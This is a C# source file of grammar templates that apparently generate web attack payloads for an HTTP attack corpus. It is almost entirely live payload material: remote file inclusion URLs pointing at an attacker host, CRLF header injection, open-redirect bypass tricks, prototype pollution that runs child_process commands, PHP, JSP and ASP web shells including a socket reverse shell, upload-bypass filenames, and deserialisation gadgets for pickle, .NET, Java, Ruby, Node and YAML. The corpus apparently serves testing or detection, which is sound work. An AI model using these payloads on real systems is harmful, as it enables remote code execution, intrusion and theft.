namespace Weir.Http.Corpus.Attacks;

/// <summary>The families that have no class of their own: remote inclusion, split responses, redirects, polluted prototypes, web shells, serialised objects, scanner probes and more.</summary>
internal static class Other
{
    public const string Text = """"
        §attack
        6× «rfi»
        6× «crlf»
        6× «redirectout»
        5× «proto»
        6× «webshell»
        5× «serialised»
        6× «scanner»
        4× «xpath»
        3× «ssi»
        3× «mail»
        3× «formula»
        3× «format»
        2× «overflow»
        2× «xslt»
        2× «esi»
        2× «graphql»
        2× «jwt»
        2× «smuggle»
        2× «latex»
        2× «lfiextra»

        ¶ ---- remote file inclusion ----
        §rfi
        5× «rfiurl»«rficut»
        4× «param»=«rfiurl»«rficut»
        3× /«word».php?«rfiparam»=«rfiurl»«rficut»
        2× «rfiparam»=«rfiurl»«rficut»
        data:text/plain,<?php «phpbody» ?>
        data://text/plain;base64,«phpcode→b64»
        php://input«¦%00»
        expect://«shellcmd»
        \\«evilhost»\«word»\«rand».php
        «rfiurl→url»
        §rfiparam
        «mosConfig_absolute_path¦GALLERY_BASEDIR¦phpbb_root_path¦root_path¦basepath¦include_path¦_SERVER[DOCUMENT_ROOT]¦CONFIG[path]¦GLOBALS[mosConfig_absolute_path]¦dir¦inc¦abs_path¦base_dir¦lang¦theme¦skin_file¦cfg_dir¦libpath¦incl¦class_path¦module_root_path¦lm_absolute_path¦_CONF[path]»
        «word»_«path¦dir¦root¦file»
        §rfiurl
        5× «http¦https¦ftp»://«evilhost»«¦/«word»»/«shellname».«txt¦txt¦php¦gif¦jpg¦dat¦inc¦jsp»
        2× «http¦ftp»://«evilhost»/«shellname»
        «hTTp¦HTTP¦hxxp¦ftp¦ftps¦//»://«evilhost»/«shellname».txt
        //«evilhost»/«shellname».«txt¦php»
        «httplit»://«evilhost»/«shellname».«txt¦php»?«cmd¦c»=«shellcmd→plus»
        §httplit
        http
        §shellname
        3× «shell¦cmd¦c99¦r57¦evil¦inc¦id¦test¦«rfi»¦injek¦bot¦safe¦echo¦tool25¦idxx¦response¦pwn¦backdoor¦readme»
        «rand»
        §rficut
        4× ?
        4×
        3× ??
        2× %00
        2× ???
        «?&cmd=«shellcmd→plus»¦?cmd=id¦%3f¦%23¦#¦%00.php¦?«letter»=¦&cmd=«shellcmd→plus»¦?%00»

        ¶ ---- line breaks in headers ----
        §crlf
        8× «clead»«nlpart»«header»
        3× «clead»«nlpart»«header»«nlpart»«header»
        4× «clead»«nlpart»«nlpart»«htmlbody»
        3× «clead»«nlpart»Content-Length:«hsp»«#0-99»«nlpart»«nlpart»«¦HTTP/1.1 200 OK«nlpart»Content-Type: text/html«nlpart»«¦Content-Length: «#10-99»«nlpart»»«nlpart»«htmlbody»»
        2× «clead»«nlpart»HTTP/1.«0¦1»«hsp2»200«hsp2»OK«nlpart»«header»«nlpart»«nlpart»«htmlbody»
        2× «httplit»://«evilhost»/«nlpart»«header»
        /«nlpart»«header»
        «httplit»://«word».com/%3f«nlpart»«header»
        «clead»%23«nlpart»«header»
        «clead»«unicrlf»«header→url»
        «clead»«nlpart»«fold»«header»
        «clead»«nlpart»«nlpart»
        {"«param»":"«word»\r\n«header»"}
        «param»=«word»«nlpart»«header»
        §unicrlf
        «%E5%98%8A%E5%98%8D¦%u000d%u000a¦\u560a\u560d¦%c4%8d%c4%8a¦%u010d%u010a¦嘊嘍¦čĊ¦%25%30%64%25%30%61¦%0%0d%0a¦%250d%250a»
        §fold
        ␠
        ␉
        %20
        %09
        §nlpart
        8× %0d%0a
        3× %0D%0A
        4× ␍␤
        3× %0a
        2× ␤
        %0d
        \r\n
        %250d%250a
        %25%30a
        %%0a0a
        %u000a
        %3f%0d%0a
        %23%0d%0a
        %E5%98%8A%E5%98%8D
        \n
        %00%0d%0a
        ␍
        %20%0d%0a
        %3f%0d
        &#13;&#10;
        \u000d\u000a
        §hsp
        ␠
        %20
        +
        §hsp2
        ␠
        %20
        §clead
        4×
        3× «word»
        2× /
        «num»
        «httplit»://«word».com/
        /«word»
        «word».com
        text/html
        en
        «rand»
        ?
        §header
        6× Set-Cookie:«hsp»«word»=««rand»¦1»«¦;path=/¦; domain=.«word».com»
        3× Location:«hsp»«evilurl»
        2× X-««word»¦Injected¦Header¦Test¦Custom»:«hsp»«rand»
        2× Content-Type:«hsp»text/html«¦;charset=utf-7»
        X-XSS-Protection:«hsp»0
        Content-Length:«hsp»«#0-99»
        Refresh:«hsp»0;url=«evilurl»
        Access-Control-Allow-Origin:«hsp»«*¦http://«evilhost»»
        Link:«hsp»<«evilurl»>;rel=stylesheet
        Host:«hsp»«evilhost»
        «word»:«hsp»«word»
        Transfer-Encoding:«hsp»chunked
        Last-Modified:«hsp»Mon, 27 Oct 2060 14:50:18 GMT
        crlf«¦injection»:«hsp»«rand»
        header:header
        Set-Cookie«¦:crlf=injection¦%20:«rand»=1»
        §htmlbody
        <script>alert(«#1-9»)</script>
        <html>«word»</html>
        <svg«¦%20¦ »onload=alert(«¦document.»«1¦domain¦cookie»)>
        %3Cscript%3Ealert(1)%3C/script%3E
        <h1>«rand»</h1>
        <img src=x onerror=alert(1)>

        ¶ ---- redirects to other sites ----
        §redirectout
        5× «rparam»=«outurl»
        5× «trickurl»
        2× «rparam»=«outurl→url»
        2× /«login¦logout¦redirect¦out¦go¦sso¦auth¦signin¦cgi-bin/redirect.cgi¦r¦oauth/authorize»«?«rparam»=¦/»«outurl»
        /«slashes»«evilhost»«/%2f..¦/..¦/%2e%2e¦/¦»
        «javascripturl»
        §rparam
        «redirect¦redirect_uri¦redirect_url¦redirectUrl¦return¦returnUrl¦return_to¦returnTo¦next¦url¦dest¦destination¦continue¦goto¦go¦target¦rurl¦forward¦callback¦checkout_url¦image_url¦view¦out¦to¦link¦u¦r¦service¦RelayState¦success_url¦ReturnUrl¦back¦ref»
        §outurl
        5× «trickurl»
        3× «http¦https»://«namedevil»«/¦»
        2× //«evilhost»«/¦»
        «javascripturl»
        §slashes
        3× /
        2× \
        «//¦///¦/\¦\/¦\\¦%09/¦%5c¦%2f¦%5c%5c¦/%5c¦/%09/¦%0d/¦%2f%2f¦/./¦;//¦.¦〱¦〵¦ゝ¦ー¦ｰ¦%ff¦%E3%80%B1¦^¦%00/¦%68%74%74%70%3a%2f%2f»
        §trickurl
        3× //«evilhost»/%2f..
        3× //«goodhost»@«evilhost»«/%2f..¦/¦»
        2× /«slashes»«evilhost»
        2× //«evilhost»/%2e%2e%2f
        «http¦https»:«evilhost»
        «http¦https»:/«slashes»«evilhost»
        «http¦https»:///«evilhost»«/%2e%2e¦/%2f..¦»
        «http¦https»://«goodhost»«@¦%40¦%00.¦%20@¦\@¦:80@¦&@¦;@¦%09@¦%5C@»«evilhost»«/¦»
        «http¦https»://«goodhost».«evilhost»«/¦»
        «http¦https»://«evilhost»«?¦#¦%23¦%3F¦\¦/.¦%5c¦%E3%80%82¦;¦%00¦&»«goodhost»
        «http¦https»://«evilhost»/«goodhost»/../
        ////«evilhost»/«%2e%2e¦%2f..¦..;/css¦»
        /////«evilhost»«//¦/¦»
        \/\/«evilhost»/
        /\/«evilhost»
        \\«evilhost»
        //«evilhost»%E3%80%82com
        //«evilhost»%00.«goodhost»
        «http¦https»://«evilhost→fullwidth»
        //«evilhost→fullwidth»
        //«ip→hexdot»
        «http¦https»://«#1000000-4294966»«digit*3-3»/
        /%09/«evilhost»
        /%5c«evilhost»
        //%09/«evilhost»
        //%5c«evilhost»
        //«evilhost»/%2f%2e%2e
        .«evilhost»
        @«evilhost»
        /.«evilhost»
        ?http://«evilhost»/
        /?«rparam»=//«evilhost»
        <>//«evilhost»
        //%01«evilhost»
        〱«evilhost»
        «http¦https»://%5b::1%5d@«evilhost»
        «HtTp¦htTPs¦hTTps»:«//¦/\/\»«evilhost»
        x:http://«evilhost»
        «http¦https»%3A%2F%2F«evilhost»%2F
        %2f%2f«evilhost»
        %5c%5c«evilhost»
        //«evilhost»\@«goodhost»
        «http¦https»://«goodhost»:«rand»@«evilhost»
        «http¦https»://«word»«evilhost»#@«goodhost»
        §goodhost
        «www.»google.com
        «whitelisteddomain¦trusted¦legit¦target¦example¦victim¦bank¦www.«letter*4-8»¦«letter*4-8»».«com¦com¦«tld»¦org»
        «localdomain.pw¦expected.com¦www.paypal.com»
        §javascripturl
        2× javascript:alert(«1¦document.domain¦document.cookie»)«¦//»
        java%0d%0ascript%0d%0a:alert(«#0-9»)
        javascript://«goodhost»/%0aalert(«#0-9»)
        javascript:%0aalert(1)
        /%09/javascript:alert(1);
        //javascript:alert(1);//
        \j\av\a\s\cr\i\pt\:\a\l\ert\(1\)
        javascript%3aalert(«#0-9»)
        data:text/html;base64,PHNjcmlwdD5hbGVydC«rand→b64»
        data:text/html,<script>alert(«#1-9»)</script>
        jaVAscript://«goodhost»//%0d%0aalert(1);//
        vbscript:msgbox(«#1-9»)

        ¶ ---- polluted prototypes ----
        §proto
        5× {"__proto__":«sp»{«pollution»}}
        3× {"constructor":«sp»{"prototype":«sp»{«pollution»}}}
        4× «protopath»=«pvalue»
        3× __proto__[«pname»]=«pvalue»
        3× ?__proto__«[«pname»]¦.«pname»»=«pvalue»
        2× constructor[prototype][«pname»]=«pvalue»
        2× constructor.prototype.«pname»=«pvalue»
        2× "__proto__":{«pollution»}
        {"«word»":{"__proto__":{«pollution»}}}
        {"«word»":"«word»","__proto__":{«pollution»}}
        #__proto__[«pname»]=«pvalue»
        «word»[__proto__][«pname»]=«pvalue»
        «word».__proto__.«pname»=«pvalue»
        __pro__proto__to__[«pname»]=«pvalue»
        {"__proto__.«pname»":"«pvalue»"}
        {"constructor.prototype.«pname»":"«pvalue»"}
        ["__proto__"]["«pname»"]
        [__proto__][«pname»]=«pvalue»
        x[constructor][prototype][«pname»]=«pvalue»
        {"\u005f\u005fproto\u005f\u005f":{«pollution»}}
        {"__proto__":null}
        {"path":"__proto__.«pname»","value":"«pvalue»"}
        [{"op":"add","path":"/__proto__/«pname»","value":"«pvalue»"}]
        Object.«__proto__¦prototype».«pname»=«pvalue»
        Object.prototype.«pname»='«pvalue»'
        __proto__«→url»«¦[«pname»]=«pvalue»»
        class.module.classLoader.resources.context.parent.pipeline.first.«pattern=%25%7Bc2%7Di%20if¦suffix=.jsp¦directory=webapps/ROOT¦prefix=«rand»¦fileDateFormat=»
        class.«module.»classLoader.«URLs[0]=«evilurl»¦DefaultAssertionStatus=«rand»»
        __class__.__init__.__globals__.«app¦«word»».«pname»=«pvalue»
        §sp
        ␠
        2×
        §protopath
        __proto__.«pname»
        constructor.prototype.«pname»
        __proto__.«word».«pname»
        __proto__.__proto__.«pname»
        «word».constructor.prototype.«pname»
        __proto__
        §pname
        4× «isAdmin¦admin¦role¦polluted¦test¦foo¦x¦testparam¦status¦json spaces¦exposedHeaders¦toString»
        «shell¦NODE_OPTIONS¦env¦argv0¦execArgv¦outputFunctionName¦client¦escapeFunction¦block¦srcdoc¦onload¦src¦innerHTML¦transport_url¦html¦sourceURL¦headers¦whitelist¦url¦dataType¦evalFunction¦hitCallback¦CLOSURE_BASE_PATH¦ALLOWED_ATTR¦BOOMR¦documentMode¦4¦sequence¦value»
        «rand»
        §pvalue
        4× «true¦1¦polluted¦«rand»¦admin¦yes¦510¦reserved»
        <img/src/onerror=alert(«#1-9»)>
        data:,alert(«#1-9»)//
        alert(«#1-9»)
        «evilurl»
        --require /proc/self/environ
        --eval=require('child_process').execSync('«shellcmd»')
        process.mainModule.require('child_process').execSync('«shellcmd»');x
        §pollution
        5× "«pname»":«sp»«true¦1¦"«pvalue»"¦"«rand»"»
        "shell":"«node¦/proc/self/exe¦vim»","NODE_OPTIONS":"--«inspect=«oasthost»¦require /proc/self/environ»"
        "env":{"EVIL":"console.log(require('child_process').execSync('«shellcmd»').toString())//"},"NODE_OPTIONS":"--require /proc/self/environ"
        "outputFunctionName":"«letter»;process.mainModule.require('child_process').execSync('«shellcmd»');«letter»"
        "execArgv":["--eval=require('child_process').execSync('«shellcmd»')"]
        "«pname»":"«pvalue»","«pname»":"«pvalue»"
        "client":1,"escapeFunction":"JSON.stringify;process.mainModule.require('child_process').exec('«shellcmd»')"
        "block":{"type":"Text","line":"process.mainModule.require('child_process').execSync('«shellcmd»')"}
        "status":«#400-599»
        "toString":"«rand»"

        ¶ ---- web shells and uploads ----
        §webshell
        5× «phpcode»
        2× «phpbody»
        3× «jspcode»
        3× «aspcode»
        3× «uploadbody»
        2× «shellcall»
        GIF89a«;¦␤¦»«phpcode»
        2× «shellfile»
        <%eval request("«letter»")%>
        AddType application/x-httpd-php .«jpg¦«rand»¦png»
        «php_value ¦»auto_«prepend¦append»_file«=¦ »«.htaccess¦«unixfile»¦«rand».gif»
        #!/«bin/sh¦usr/bin/perl¦usr/bin/env python»␤«print "Content-type: text/html\n\n";¦»«shellcmd»
        «phpcode→b64»
        §phpopen
        5× <?php␠
        2× <?=
        <?
        <?PHP␠
        <script language="php">
        §phpclose
        3× ?>
        2× ␠?>
        «¦</script>»
        §phpcode
        «phpopen»«phpbody»«phpclose»
        §inputvar
        4× $_GET['«cmdname»']
        3× $_POST['«cmdname»']
        3× $_REQUEST['«cmdname»']
        2× $_«GET¦POST¦REQUEST»[«cmdname»]
        $_«GET¦POST¦REQUEST¦COOKIE»["«cmdname»"]
        $_SERVER['HTTP_«rand→upper»']
        $_«GET¦POST»[«#0-9»]
        ${"_GET"}['«letter»']
        $_HEADERS['«word»']
        file_get_contents('php://input')
        getallheaders()['«letter»']
        base64_decode($_«POST¦GET¦COOKIE»['«cmdname»'])
        §cmdname
        «cmd¦c¦x¦pass¦0¦a¦command¦exec¦ant¦z0¦code¦«letter»¦«rand»»
        §phpsys
        4× system
        2× «eval¦exec¦shell_exec¦passthru¦assert¦popen¦proc_open¦pcntl_exec»
        §phpbody
        5× «@¦»«phpsys»(«inputvar»)«;¦»
        3× «@¦»eval(«inputvar»);
        2× echo «shell_exec¦passthru¦system¦exec¦`»(«inputvar»);
        3× «phpsys»('«shellcmd»');
        2× phpinfo();
        echo «md5('«rand»')¦'«rand»'¦«#1-999»*«#1-999»¦php_uname()¦getcwd()»;«¦unlink(__FILE__);»
        file_put_contents('«rand».php',«base64_decode('«phpopen→b64»')¦'<?php eval($_POST["«letter»"]);?>'¦«inputvar»»);
        assert(«inputvar»);
        $«letter»=«inputvar»;«@¦»«eval¦system¦assert»($«letter»);
        $«$f:letter»='«phpsys→concatphp»';$«$f»(«inputvar»);
        «preg_replace('/.*/e',«inputvar»,'')¦create_function('',«inputvar»)();¦call_user_func('«phpsys»',«inputvar»)¦array_map('«phpsys»',array(«inputvar»))¦usort($_GET,'«phpsys»')¦include(«inputvar»)¦(«inputvar»)(«inputvar»)¦`«inputvar»`¦array_filter([«inputvar»],'«phpsys»')¦register_shutdown_function('«phpsys»',«inputvar»)»;
        «eval¦assert»(«base64_decode¦gzinflate(base64_decode¦str_rot13¦gzuncompress(base64_decode¦strrev»("«rand→b64»«rand→b64»"))«)¦»;
        if(isset(«inputvar»)){«echo "<pre>";»«phpsys»(«inputvar»);«die;¦»}
        move_uploaded_file($_FILES['«word»']['tmp_name'],«$_FILES['«word»']['name']¦'«rand».php'»);
        copy("«evilurl»","«rand».php");
        fputs(fopen('«rand».php','w'),'«phpopen»eval($_POST[«letter»])?>');
        @error_reporting(0);@set_time_limit(0);eval(«inputvar»);
        $sock=fsockopen("«ip»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");
        §jspcode
        3× <%«¦ »Runtime.getRuntime().exec(request.getParameter("«cmdname»"))«;¦»«¦ »%>
        <%@ page import="java.«util.*,java.io.*¦io.*»"%><% «Process p=Runtime.getRuntime().exec(request.getParameter("«cmdname»"));¦if(request.getParameter("«cmdname»")!=null){Runtime.getRuntime().exec(request.getParameter("«cmdname»"));}» %>
        <%if("«rand»".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("«cmdname»")).getInputStream();%>
        <% out.println("«rand»");«¦new java.io.File(application.getRealPath(request.getServletPath())).delete();» %>
        ${Runtime.getRuntime().exec(param.«cmdname»)}
        <%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%>
        <jsp:«scriptlet¦expression»>Runtime.getRuntime().exec(request.getParameter("«cmdname»"))</jsp:scriptlet>
        <% new ProcessBuilder(request.getParameter("«cmdname»")).start(); %>
        <%new java.io.FileOutputStream(request.getParameter("«letter»")).write(request.getParameter("«letter»").getBytes());%>
        §aspcode
        3× <%«@ Page Language="Jscript"%><%¦»eval(Request«.Item»["«cmdname»"]«,"unsafe"¦»)«;¦»%>
        2× <%«eval¦execute¦executeglobal» request("«cmdname»")%>
        <% Response.Write(CreateObject("WScript.Shell").Exec(«Request.QueryString("«cmdname»")¦"«shellcmd»"»).StdOut.ReadAll()) %>
        <%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["«cmdname»"]); %>
        <script runat="server" language="«C#¦JScript¦VBScript»">«void Page_Load(object s,EventArgs e){System.Diagnostics.Process.Start("cmd.exe","/c «shellcmd»");}¦function Page_Load(){eval(Request["«cmdname»"],"unsafe");}»</script>
        <%@ WebHandler Language="C#" Class="«word»"%> using System.Web; using System.Diagnostics;
        <%Set o=Server.CreateObject("«WScript.Shell¦ADODB.Stream¦Scripting.FileSystemObject»")«:o.Run "cmd /c «shellcmd»"¦»%>
        <cfexecute name="«cmd.exe¦/bin/sh»" arguments="-c «shellcmd»" timeout="«#1-10»"></cfexecute>
        §scriptext
        «php¦php5¦phtml¦pht¦phar¦php7¦jsp¦jspx¦asp¦aspx¦ashx¦asa¦cer¦cgi¦pl¦shtml¦cfm¦war¦exe¦sh¦pHp¦inc¦htaccess»
        §uploadbody
        3× Content-Disposition: form-data; name="«word»"; filename="«upname»"␍␤Content-Type: «image/jpeg¦image/png¦application/octet-stream¦text/plain¦application/x-php»␍␤␍␤««phpcode»¦«jspcode»¦«aspcode»¦GIF89a;«phpcode»»
        2× «upname»
        filename="«upname»"
        filename="«upname»"; filename*=utf-8''«rand».«scriptext»
        --«hexdigit*12-20»␍␤Content-Disposition: form-data; name="«word»"; filename="«upname»"␍␤␍␤«phpcode»␍␤
        §upname
        3× ««word»¦shell¦cmd¦x¦«rand»».«scriptext»
        2× ««word»¦shell¦«rand»».«jpg¦png¦gif¦txt».«scriptext»
        2× ««word»¦shell¦«rand»».«scriptext»«%00¦;¦::$DATA¦.¦%20¦/¦%0a¦.xxxjpg¦#¦%0d%0a¦...¦\¦%2500»«¦.jpg¦.png¦.gif»
        «word».«scriptext».«jpg¦png¦gif¦«rand»»
        «../¦..\»«word».«scriptext»
        «.htaccess¦.user.ini¦web.config¦shell.«scriptext»»
        "><img src=x onerror=alert(1)>.«jpg¦svg»
        «word»';«shellcmd»;'.«jpg¦png»
        «word».jpg;.asp
        §shellcall
        4× /«shelldir»«shellfile2»?«cmdname»=«shellcmd→plus»
        2× «cmdname»=«phpbody»
        2× «shellfile2»?«cmdname»=«shellcmd→url»
        «cmdname»=@eval(base64_decode($_POST[«letter»«#0-9»]));&«letter»«#0-9»=«phpbody→b64»
        «cmdname»=«@ini_set("display_errors","0");@set_time_limit(0);echo("->|");¦die(@md5(«rand»));¦Response.Write("«rand»");Response.End¦print(md5(«rand»))»
        §shelldir
        3×
        «uploads¦images¦wp-content/uploads¦upload¦files¦tmp¦media¦avatars¦wp-includes¦wp-content/plugins/«rand»¦wp-content/themes/«rand»¦.well-known¦cache»/
        §shellfile2
        3× «shell¦cmd¦c99¦r57¦wso¦b374k¦alfa¦«webshell»¦backdoor¦up¦uploader¦mini¦simple-backdoor¦adminer¦phpspy¦weevely¦x¦ant¦1¦404¦ws¦bypass¦indoxploit¦priv8¦marijuana¦chopper¦caidao¦tunnel¦JspSpy¦aspxspy¦cmdasp¦behinder».«php¦php¦php¦jsp¦asp¦aspx»
        «rand».«php¦jsp¦aspx»
        §shellfile
        /«shelldir»«shellfile2»

        ¶ ---- serialised objects ----
        §serialised
        6× «phpobject»
        4× «javaobject»
        3× «pickle»
        3× «dotnet»
        2× «rubyobject»
        2× «nodeobject»
        2× «yamlobject»
        2× «xmlobject»
        2× «jsonobject»
        §phpclass
        4× «word→upper1»
        «GuzzleHttp\Psr7\FnStream¦GuzzleHttp\Cookie\FileCookieJar¦Monolog\Handler\SyslogUdpHandler¦Illuminate\Broadcasting\PendingBroadcast¦Symfony\Component\Cache\Adapter\ProxyAdapter¦Exception¦SplObjectStorage¦SoapClient¦SimpleXMLElement¦PDO¦__PHP_Incomplete_Class¦stdClass¦JDatabaseDriverMysqli¦SimplePie¦Swift_ByteStream_FileByteStream¦Requests_Utility_FilteredIterator¦PHPObjectInjection¦Logger¦FileManager¦CustomTemplate¦User¦PageModel¦Slim\Http\Response¦yii\db\BatchQueryResult¦think\process\pipes\Windows¦DateTime»
        §phpprop
        4× s:«propname→counted»;«phpval»
        s:«#5-30»:"␀*␀«propname»";«phpval»
        s:«#5-30»:"␀«word»␀«propname»";«phpval»
        §propname
        «username¦access_token¦isAdmin¦data¦inject¦file¦lock_file_path¦template_file_path¦events¦event¦default¦methods¦handler¦filename¦code¦cmd¦logFile¦admin¦role¦loggedin¦callback¦path¦_fn_close¦content¦«rand»»
        §phpval
        3× s:«rand→counted»;
        2× s:«phpevil→counted»;
        2× i:«#0-999»;
        2× b:«0¦1»;
        N;
        a:0:{}
        «phpobject»
        a:«#1-2»:{i:0;«phpval»}
        d:0.1;
        R:«#1-9»;
        §phpevil
        «phpinfo();¦system¦«phpsys»¦«shellcmd»¦«unixfile»¦<?php system($_GET['c']);?>¦«evilurl»¦/home/«word»/morale.txt»
        §phpobject
        6× O:«phpclass→counted»:«#1-3»:{«phpprop*1-3»}
        2× O:«phpclass→counted»:0:{}
        2× a:«#1-2»:{i:0;O:«phpclass→counted»:«#1-2»:{«phpprop*1-2»}i:1;i:0;}
        O:+«phpclass→length»:"«phpclass»":«#1-2»:{«phpprop*1-2»}
        C:«phpclass→counted»:«#1-40»:{«phpval»}
        a:1:{«phpprop»}
        a:2:{s:8:"username";b:1;s:8:"password";b:1;}
        «phpobject→url»
        «phpobject→b64»
        }__«rand»|O:«phpclass→counted»:«#1-2»:{«phpprop*1-2»}
        «word»|O:«phpclass→counted»:«#1-2»:{«phpprop*1-2»}
        phar://«word».«phar¦jpg»/«word»
        §b64run
        «b64chars*6-40»
        §b64chars
        4× «rand→b64clean»
        AA
        «letter→upper»
        §javaobject
        6× rO0AB«XNyABFqYXZhLnV0aWwuSGFzaE1hc¦XNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcl¦XNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1Z¦XNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u¦XQAB¦X¦XVy¦XNy»«b64run»«¦=¦==»
        2× ac ed 00 05 73 72 «hexpair*4-20»
        aced0005737200«hexdigit*10-60»
        2× ¬í␀␅sr␀«javaclass»
        ¬í␀␅sr␀.«javaclass»xr␀«javaclass»
        H4sIAAAAAAAA«b64run»
        %ac%ed%00%05sr%00«javaclass»
        \xac\xed\x00\x05sr\x00«javaclass»
        JaCtAAV«b64run»
        yv66vgAAAD«b64run»
        \u00ac\u00ed\u0000\u0005«rand»
        §hexpair
        «hexdigit»«hexdigit»␠
        §javaclass
        «java.util.HashMap¦java.util.PriorityQueue¦sun.reflect.annotation.AnnotationInvocationHandler¦org.apache.commons.collections.functors.InvokerTransformer¦org.apache.commons.collections4.comparators.TransformingComparator¦javax.management.BadAttributeValueExpException¦com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl¦org.codehaus.groovy.runtime.ConvertedClosure¦java.net.URL¦java.lang.Runtime¦java.lang.ProcessBuilder¦com.mchange.v2.c3p0.WrapperConnectionPoolDataSource¦org.springframework.beans.factory.ObjectFactory¦java.rmi.server.UnicastRemoteObject¦org.hibernate.engine.spi.TypedValue¦com.sun.rowset.JdbcRowSetImpl¦java.security.SignedObject»
        §pickle
        3× c«os¦posix¦subprocess¦nt¦__builtin__»␤«system¦popen¦check_output¦eval¦exec»␤(S'«shellcmd»'␤tR.
        2× cposix␤system␤p«#0-9»␤(S"«shellcmd»"␤p«#0-9»␤tp«#0-9»␤Rp«#0-9»␤.
        (S'«shellcmd»'␤ios␤system␤.
        (dp0␤S'«word»'␤p1␤cos␤system␤(S'«shellcmd»'␤tRs.
        gAS«V¦R¦c»«b64run»«Y3Bvc2l4¦cG9zaXiUjAZzeXN0ZW2Uk5SMA¦jAVwb3NpeJSMBnN5c3RlbZSTlIw»«b64run»
        gASV«b64run»Lg==
        Y29z«b64run»
        Y3Bvc2l4CnN5c3RlbQ«b64run»
        \x80\x0«3¦4»c«posix¦os»\nsystem\nq\x00X\x«hexdigit*2»\x00\x00\x00«shellcmd»q\x01\x85q\x02Rq\x03.
        class «word»: def __reduce__(self): return (os.system,('«shellcmd»',))
        §dotnet
        4× AAEAAAD/////AQAAAAAAAAA«b64run»
        2× {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework«¦, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35»","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c «shellcmd→json»"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
        {"$type":"System.«Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"\\\\«evilhost»\\«rand».dll¦Security.Principal.WindowsIdentity, mscorlib","System.Security.ClaimsIdentity.bootstrapContext":"AAEAAAD/////«b64run»¦IO.FileInfo, System.IO.FileSystem","fileName":"«rand».txt¦Diagnostics.Process, System","StartInfo":{"FileName":"cmd","Arguments":"/c «shellcmd→json»"}»"}
        <ObjectDataProvider «x:Key="«rand»" ¦»ObjectType="{x:Type «d¦Diag»:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c «shellcmd»</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider>
        <ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider d:Key="«rand»"/></ResourceDictionary>
        /wEy«b64run»«AAEAAAD/////»«b64run»
        __VIEWSTATE=/wE«b64run»
        __VIEWSTATEGENERATOR=«hexdigit*8→upper»&__VIEWSTATE=/wEy«b64run»
        <root type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework],[System.Windows.Data.ObjectDataProvider, PresentationFramework]]">
        §rubyobject
        BAh«b64run»
        \x04\x08«o:¦[\b¦{\a¦I"»«Gem::Installer¦Gem::Requirement¦Gem::SpecFetcher¦Gem::Package::TarReader¦Net::BufferedIO¦ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy»«rand»
        --- !ruby/«object:Gem::Installer¦object:Gem::SpecFetcher¦object:Gem::Requirement¦hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection¦object:ERB¦object:OpenStruct¦object:UnboundMethod¦object:Net::WriteAdapter»␤«word»: «`«shellcmd»`¦«rand»»
        - !ruby/object:Gem::«Package::TarReader¦SpecFetcher¦Installer»␤  «i¦io»: x
        {"^o":"«Gem::Requirement¦ERB¦Kernel¦Proc»","«word»":"«shellcmd→json»"}
        §nodeobject
        4× {"«word»":"_$$ND_FUNC$$_function«¦ »(){«nodeexec→json»}()"}
        _$$ND_FUNC$$_function(){«nodeexec»}()
        {"__js_function":"function(){«nodeexec→json»}()"}
        {"toString":"_$$ND_FUNC$$_function(){«nodeexec→json»}"}
        !!js/function 'function(){«nodeexec»}()'
        "toString": !<tag:yaml.org,2002:js/function> 'function(){«nodeexec»}()'
        §nodeexec
        require('child_process').«exec¦execSync»('«shellcmd»'«, function(error, stdout, stderr) { console.log(stdout) }¦»)«;¦»
        process.mainModule.require('child_process').execSync('«shellcmd»')
        §yamlobject
        3× !!python/object/«apply¦new»:«os.system¦subprocess.Popen¦subprocess.check_output¦os.popen¦eval»«␤- "«shellcmd»"¦ ["«shellcmd»"]¦␤args: ["«shellcmd»"]¦␤- - «word»␤  - -la»
        2× !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["«evilurl»"]]]]
        !!com.sun.rowset.JdbcRowSetImpl␤ dataSourceName: «ldap¦rmi»://«evilhost»:«port»/«rand»␤ autoCommit: true
        !!python/«name¦module¦object»:«os.system¦subprocess¦«word».«word»»«¦ []»
        !!org.«springframework.context.support.ClassPathXmlApplicationContext¦apache.xbean.propertyeditor.JndiConverter» ["«evilurl»"]
        !!«rand».«rand» ["«evilurl»"]
        §xmlobject
        2× <«sorted-set¦map¦java.util.PriorityQueue¦linked-hash-set¦tree-map»«¦ serialization='custom'»><«dynamic-proxy¦string»>«¦<interface>java.lang.Comparable</interface>»<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>«shellcmd»</string></command></target><action>start</action></handler>
        <java«¦ version="1.«4¦8».0"» class="java.beans.XMLDecoder"><«object¦void» class="java.lang.ProcessBuilder"><array class="java.lang.String" length="«#1-3»"><void index="0"><string>«shellcmd»</string></void></array><void method="start"/></object></java>
        <void class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>«shellcmd»</string></void></void>
        <java><object class="java.io.PrintWriter"><string>servers/AdminServer/tmp/«rand».jsp</string><void method="println"><string><![CDATA[«jspcode»]]></string></void></object></java>
